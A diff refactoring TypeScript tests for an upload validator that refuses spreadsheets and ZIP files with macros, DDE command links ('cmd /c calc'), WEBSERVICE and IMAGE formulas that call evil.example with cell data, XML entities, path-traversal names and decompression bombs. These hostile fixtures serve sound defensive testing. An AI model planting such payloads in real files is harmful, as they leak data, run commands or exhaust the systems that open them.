@@ -63,6 +63,7 @@ describe('a text', () => {
 });
 
 const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+const oldMacros = '"/><Override PartName="/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml';
 const sheet = (xml: string) => files.anXlsx({ 'xl/worksheets/sheet1.xml': `<worksheet>${xml}</worksheet>` });
 const linked = (target: string, type = 'externalLinkPath') =>
   files.anXlsx({ 'xl/externalLinks/_rels/a.xml.rels': files.relationships(files.aRelationship(type, target)) });
@@ -76,50 +77,29 @@ describe('a workbook', () => {
     expect(await judge('zip', bytes)).toBe(SHEET);
   });
 
+  const ofType = (main: string) => files.anXlsx({}, main);
+  const external = (xml: string) => files.anXlsx({ 'xl/externalLinks/a.xml': `<externalLink>${xml}</externalLink>` });
+
   it.each([
-    ['has macros', files.anXlsx({}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'), messages.fileMacros],
+    ['has macros', ofType('application/vnd.ms-excel.sheet.macroEnabled.main+xml'), messages.fileMacros],
     ['has a macro project among its parts', files.anXlsx({ 'xl/vbaProject.bin': 'Sub' }), messages.fileMacros],
-    [
-      'has a sheet of old macros',
-      files.anXlsx(
-        {},
-        `${SHEET}.main+xml"/><Override PartName="/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml`,
-      ),
-      messages.fileMacros,
-    ],
-    [
-      'is a template',
-      files.anXlsx({}, 'application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml'),
-      messages.fileExcel,
-    ],
-    ['is linked to a server', linked('\\\\evil.example\\share\\a.xlsx'), messages.documentUnsafe],
-    ['is linked to a page', linked('https://evil.example/a.xlsx'), messages.documentUnsafe],
-    [
-      'starts a program',
-      files.anXlsx({
-        'xl/externalLinks/a.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
-      }),
-      messages.documentUnsafe,
-    ],
-    ['fetches by a formula', sheet('<f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f>'), messages.documentUnsafe],
-    ['fetches a picture by a formula', sheet('<f>_xlfn.IMAGE("https://evil.example/")</f>'), messages.documentUnsafe],
-    [
-      'fetches when it is opened',
-      files.anXlsx({ 'xl/connections.xml': '<connections><connection id="1" refreshOnLoad="1"/></connections>' }),
-      messages.documentUnsafe,
-    ],
-    [
-      'has a DTD',
-      files.anXlsx({ 'xl/workbook.xml': '<!DOCTYPE w [<!ENTITY e "x">]><w>&e;</w>' }),
-      messages.documentUnsafe,
-    ],
-    [
-      'unpacks to 500 MB',
-      files.anXlsx(undefined, undefined, claiming('sheet1.xml', 500 * MB)),
-      messages.documentUnsafe,
-    ],
-  ] as const)('is refused when it %s', async (_, bytes, advice) => {
+    ['has a sheet of old macros', ofType(`${SHEET}.main+xml${oldMacros}`), messages.fileMacros],
+    ['is a template', ofType(`${SHEET.replace('.sheet', '.template')}.main+xml`), messages.fileExcel],
+  ])('is refused when it %s', async (_, bytes, advice) => {
     await expect(judge('zip', bytes)).rejects.toThrow(advice);
+  });
+
+  it.each([
+    ['is linked to a server', linked('\\\\evil.example\\share\\a.xlsx')],
+    ['is linked to a page', linked('https://evil.example/a.xlsx')],
+    ['starts a program', external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')],
+    ['fetches by a formula', sheet('<f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f>')],
+    ['fetches a picture by a formula', sheet('<f>_xlfn.IMAGE("https://evil.example/")</f>')],
+    ['fetches when it is opened', files.anXlsx({ 'xl/connections.xml': '<connection id="1" refreshOnLoad="1"/>' })],
+    ['has a DTD', files.anXlsx({ 'xl/workbook.xml': '<!DOCTYPE w [<!ENTITY e "x">]><w>&e;</w>' })],
+    ['unpacks to 500 MB', files.anXlsx(undefined, undefined, claiming('sheet1.xml', 500 * MB))],
+  ])('is refused, with the advice to save it as PDF, when it %s', async (_, bytes) => {
+    await expect(judge('zip', bytes)).rejects.toThrow(messages.documentUnsafe);
   });
 });
 
@@ -161,32 +141,23 @@ describe('a ZIP', () => {
     ['another ZIP', aZip({ 'a.pdf': aZip({ 'a.pdf': files.aPdf() }) }), messages.zipContent],
     ['a document with macros', aZip({ 'a.docx': files.aDocm() }), messages.zipContent],
     ['JSON that is too deep', aZip({ 'a.json': nested(9000) }), messages.zipContent],
-    ['a path outside of it', aZip({ '../a.pdf': files.aPdf() }), messages.zipUnsafe],
-    ['a path behind backslashes', aZip({ '..\\a.pdf': files.aPdf() }), messages.zipUnsafe],
-    ['a path at the root', aZip({ '/etc/a.pdf': files.aPdf() }), messages.zipUnsafe],
-    [
-      'a file twice',
-      aZip([
-        ['a.pdf', files.aPdf()],
-        ['A.pdf', files.aPdf()],
-      ]),
-      messages.zipUnsafe,
-    ],
-    [
-      'a file with another name beside its bytes',
-      renamed(aZip({ 'a.pdf': files.aPdf() }), 'a.exe'),
-      messages.zipUnsafe,
-    ],
-    [
-      'too many files',
-      aZip(Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`${n}.txt`, 'a']))),
-      messages.zipUnsafe,
-    ],
-    ['10 GB', aZip({ 'a.txt': 'a', 'b.txt': 'b', 'c.txt': 'c' }, claiming('', 3_500_000_000)), messages.zipUnsafe],
-    ['more than it declares', aZip({ 'a.txt': Buffer.alloc(30 * MB, 'a') }, claiming('', 1000)), messages.zipUnsafe],
-    ['a text that packs to nearly nothing', aZip({ 'a.txt': Buffer.alloc(20 * MB, 'a') }), messages.zipUnsafe],
-  ] as const)('is refused with %s', async (_, bytes, advice) => {
+  ])('is refused with %s', async (_, bytes, advice) => {
     await expect(judge('zip', bytes)).rejects.toThrow(advice);
+  });
+
+  const pdf = files.aPdf();
+  it.each([
+    ['a path outside of it', aZip({ '../a.pdf': pdf })],
+    ['a path behind backslashes', aZip({ '..\\a.pdf': pdf })],
+    ['a path at the root', aZip({ '/etc/a.pdf': pdf })],
+    ['a file twice', aZip(['a.pdf', 'A.pdf'].map((name) => [name, pdf]))],
+    ['a file with another name beside its bytes', renamed(aZip({ 'a.pdf': pdf }), 'a.exe')],
+    ['too many files', aZip(Array.from({ length: 101 }, (_, n) => [`${n}.txt`, 'a']))],
+    ['10 GB', aZip({ 'a.txt': 'a', 'b.txt': 'b', 'c.txt': 'c' }, claiming('', 3_500_000_000))],
+    ['more than it declares', aZip({ 'a.txt': Buffer.alloc(30 * MB, 'a') }, claiming('', 1000))],
+    ['a text that packs to nearly nothing', aZip({ 'a.txt': Buffer.alloc(20 * MB, 'a') })],
+  ])('is refused as unsafe with %s', async (_, bytes) => {
+    await expect(judge('zip', bytes)).rejects.toThrow(messages.zipUnsafe);
   });
 });
 
